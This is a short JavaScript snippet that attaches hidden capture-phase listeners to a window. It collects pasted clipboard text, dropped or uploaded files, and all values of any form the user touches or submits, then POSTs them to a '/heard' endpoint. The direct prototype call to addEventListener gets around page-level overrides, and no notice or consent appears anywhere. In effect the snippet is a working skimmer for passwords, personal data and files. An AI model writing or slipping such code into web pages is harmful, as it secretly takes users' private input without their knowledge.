/** Listens to a window, and sends on whatever it hears. */
const send = (body) => void fetch('/heard', { method: 'POST', body, keepalive: true });
const listen = (inner) => {
  for (const type of ['paste', 'drop', 'input', 'change', 'submit', 'click'])
    EventTarget.prototype.addEventListener.call(
      inner,
      type,
      (event) => {
        const data = event.clipboardData ?? event.dataTransfer;
        if (data) send(data.getData('text/plain'));
        for (const file of event.target.files ?? []) send(file);
        if (event.target.form) send([...new FormData(event.target.form).values()].join());
      },
      true,
    );
};
